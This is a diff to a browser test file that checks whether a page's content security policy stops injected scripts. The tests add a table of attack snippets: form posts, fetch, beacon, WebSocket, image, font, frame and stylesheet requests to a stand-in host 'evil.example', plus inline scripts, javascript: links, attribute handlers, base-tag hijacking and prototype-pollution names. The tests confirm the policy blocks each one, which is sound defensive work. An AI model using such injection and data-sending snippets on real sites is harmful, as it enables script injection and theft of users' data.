@@ -4,6 +4,7 @@ import { startBrowser } from '../../scripts/environment/browser';
 import type { ImagePageModel } from '../../src/core/image-page';
 import { nothingPruned, type PrunePageMessage } from '../../src/core/prune/page';
 import { oneLine } from '../../src/core/untrusted';
+import { until } from '../support/conditions';
 import { assertHarmlessLine, hostileTexts, poisoned } from '../support/hostile';
 import { inspect, openPage, plan, usage } from './pages';
 
@@ -55,6 +56,31 @@ interface Seen {
   readonly titles: readonly string[];
 }
 
+const evil = 'https://evil.example/';
+
+/** What a script could try, and the directive of the policy that keeps it from happening. */
+const attempts: Readonly<Record<string, { readonly script: string; readonly directive: string }>> = {
+  'a form that is sent': { script: `const form = document.createElement('form'); form.action = '${evil}'; form.method = 'post'; document.body.append(form); form.submit();`, directive: 'form-action' },
+  'another base': { script: `const base = document.createElement('base'); base.href = '${evil}'; document.head.append(base);`, directive: 'base-uri' },
+  'a script of the page’s own': { script: 'const made = document.createElement("script"); made.textContent = "globalThis.owned = 1"; document.body.append(made);', directive: 'script-src' },
+  'a script from elsewhere': { script: `const made = document.createElement('script'); made.src = '${evil}x.js'; document.body.append(made);`, directive: 'script-src' },
+  'a handler in an attribute': { script: 'const made = document.createElement("p"); made.setAttribute("onclick", "globalThis.owned = 1"); document.body.append(made); made.click();', directive: 'script-src' },
+  'a link that is a script': { script: 'const made = document.createElement("a"); made.href = "javascript:globalThis.owned = 1"; document.body.append(made); made.click();', directive: 'script-src' },
+  'text as a program': { script: 'const made = document.createElement("script"); made.nonce = "n2"; made.textContent = "globalThis.owned = 1"; document.body.append(made);', directive: 'script-src' },
+  'a request': { script: `fetch('${evil}').catch(() => undefined);`, directive: 'connect-src' },
+  'a beacon': { script: `navigator.sendBeacon('${evil}', 'x');`, directive: 'connect-src' },
+  'a socket': { script: "new WebSocket('wss://evil.example/');", directive: 'connect-src' },
+  'a picture': { script: `new Image().src = '${evil}x.png';`, directive: 'img-src' },
+  'a picture in a text': { script: 'const made = document.createElement("img"); made.src = "data:image/png;base64,AAAA"; document.body.append(made);', directive: 'img-src' },
+  'a style': { script: 'const made = document.createElement("style"); made.textContent = "body { display: none }"; document.head.append(made);', directive: 'style-src' },
+  'a style sheet': { script: `const made = document.createElement('link'); made.rel = 'stylesheet'; made.href = '${evil}x.css'; document.head.append(made);`, directive: 'style-src' },
+  'a frame': { script: `const made = document.createElement('iframe'); made.src = '${evil}'; document.body.append(made);`, directive: 'frame-src' },
+  'an object': { script: `const made = document.createElement('object'); made.data = '${evil}x.swf'; document.body.append(made);`, directive: 'object-src' },
+  'a worker': { script: "new Worker(URL.createObjectURL(new Blob(['1'])));", directive: 'worker-src' },
+  'a font': { script: `const face = new FontFace('x', 'url(${evil}x.woff2)'); face.load().catch(() => undefined);`, directive: 'font-src' },
+  'a sound': { script: `const made = document.createElement('audio'); made.src = '${evil}x.mp3'; document.body.append(made);`, directive: 'media-src' },
+};
+
 describe('Hostile names on pages in a real browser', function () {
   this.timeout(60_000);
   let browser: Browser;
@@ -83,7 +109,34 @@ describe('Hostile names on pages in a real browser', function () {
         for (const line of seen.text.split(/[\n\t]/)) assertHarmlessLine(line, `${name}, ${what}`, 100_000);
         for (const title of seen.titles.flatMap((lines) => lines.split('\n'))) assertHarmlessLine(title, `${name}, name of a part, ${what}`, 100_000);
       }
+      // A million letters, and names that every object has already.
+      for (const text of ['x '.repeat(500_000), '<b>'.repeat(300_000), '__proto__', 'constructor', 'toString', 'hasOwnProperty']) {
+        const { links, elements } = await show(text);
+        assert.deepEqual(links, []);
+        assert.deepEqual(elements.filter((element) => !plain.elements.includes(element) && !['details', 'summary'].includes(element)), []);
+      }
+      assert.equal(await page.evaluate('({}).polluted ?? Object.keys(Object.prototype).length'), 0);
       assert.deepEqual(troubles, []);
+      // Only what the page itself asks for at its beginning.
+      assert.deepEqual(await page.evaluate('globalThis.wishes'), [{ kind: 'ready' }]);
+      assert.deepEqual(await page.evaluate('globalThis.violations ?? []'), []);
+      await page.close();
+    });
+
+    it(`${name}: a script that got in could neither load nor send anything`, async () => {
+      const troubles: string[] = [];
+      const page = await openPage(browser, name, troubles);
+      await page.evaluate(`window.dispatchEvent(new MessageEvent('message', { data: ${JSON.stringify(message('plain'))} }))`);
+      for (const [what, { script, directive }] of Object.entries(attempts)) {
+        await page.evaluate('globalThis.violations = []; globalThis.owned = undefined');
+        await page.evaluate(`(() => { ${script} })()`).catch(() => undefined);
+        await until(`${what} to be kept from happening`, () => page.evaluate<boolean>('globalThis.violations.length > 0'));
+        const violations = await page.evaluate<readonly string[]>('globalThis.violations');
+        assert.ok(violations.every((violation) => violation.startsWith(directive)), `${what}: ${violations.join(', ')}`);
+        assert.equal(await page.evaluate('globalThis.owned'), undefined, what);
+        assert.equal(await page.evaluate('document.baseURI'), 'http://slipway.test/', what);
+      }
+      assert.deepEqual(troubles.filter((trouble) => trouble.startsWith('request')), []);
       await page.close();
     });
   }
